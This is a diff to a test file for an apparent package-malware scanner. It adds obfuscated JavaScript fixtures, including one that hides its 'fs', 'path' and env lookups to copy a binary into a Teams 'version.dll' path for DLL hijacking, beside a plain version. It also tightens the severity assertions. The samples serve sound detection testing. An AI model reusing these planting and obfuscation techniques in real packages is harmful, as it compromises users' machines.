@@ -4,7 +4,8 @@ The replicas in tests/fixtures/replicas hide names one way (``'.cla' + 'ude'``, 
 'dir']``); these hide the same techniques other ways (arrays joined, ``Buffer.from(hex)``,
 template literals, computed keys, module and environment aliases, other split points), so a
 fix is shown to follow the technique and not one sample. Each is judged as a patch release of
-a benign host and alone, and must be weighed like its plain form. Inert: hosts under
+a benign host and alone, and must be weighed at least like its plain form, with the class's
+rule in the evidence and the technique on top. Inert: hosts under
 ``.invalid``, nothing is run.
 """
 
@@ -19,6 +20,7 @@ from chainwatch.scan import Loaded, Scanner, scan_snippet_files
 from tests.helpers import BENIGN_INDEX
 
 SCANNER = Scanner(None, workers=1)
+ORDER = {Level.BENIGN: 0, Level.SUSPICIOUS: 1, Level.MALICIOUS: 2}
 HOST = {"package.json": {"name": "left-padder", "version": "1.0.0", "main": "index.js"},
         "index.js": BENIGN_INDEX}
 
@@ -41,9 +43,10 @@ if (!tok) {
 }
 """
 DLL_WRITE = """\
-const p = require('path'); const fs = require('fs');
-const base = process.env[['APP', 'DATA'].join('')];
-const dst = p.join(base, 'Microsoft', 'Teams', ['version', 'dll'].join('.'));
+const fs = require(Buffer.from('6673', 'hex').toString());
+const p = require(String.fromCharCode(112, 97, 116, 104));
+const env = process[`e${'nv'}`];
+const dst = p.join(env.LOCALAPPDATA, 'Microsoft', 'Teams', ['version', 'dll'].join('.'));
 fs['copy' + 'FileSync'](p.join(__dirname, 'lib', 'x.bin'), dst);
 """
 FOLDER_OPEN = """\
@@ -81,7 +84,7 @@ if (!token) {
 """
 DLL_WRITE_PLAIN = """\
 const p = require('path'); const fs = require('fs');
-const dst = p.join(process.env.APPDATA, 'Microsoft', 'Teams', 'version.dll');
+const dst = p.join(process.env.LOCALAPPDATA, 'Microsoft', 'Teams', 'version.dll');
 fs.copyFileSync(p.join(__dirname, 'lib', 'x.bin'), dst);
 """
 FOLDER_OPEN_PLAIN = """\
@@ -147,7 +150,10 @@ def test_second_obfuscated_variant_is_weighed_like_the_plain_technique(name: str
     found = {f.rule for f in verdict.findings}
     assert plain_verdict.level is not Level.BENIGN, plain_verdict.explanation
     assert {f.rule for f in plain_verdict.findings} & rules
-    assert (verdict.level, alone.level) == (plain_verdict.level, plain_alone.level), (
+    # weighed at least like the plain form (hiding it may add concealment, never take away)
+    assert (ORDER[verdict.level], ORDER[alone.level]) >= (
+        ORDER[plain_verdict.level], ORDER[plain_alone.level]), (
         verdict.explanation, alone.explanation, sorted(found))
+    assert ORDER[alone.level] >= ORDER[plain_alone.level], alone.explanation
     assert found & rules, sorted(found)
     assert verdict.findings[0].technique in top, verdict.findings[0].rule
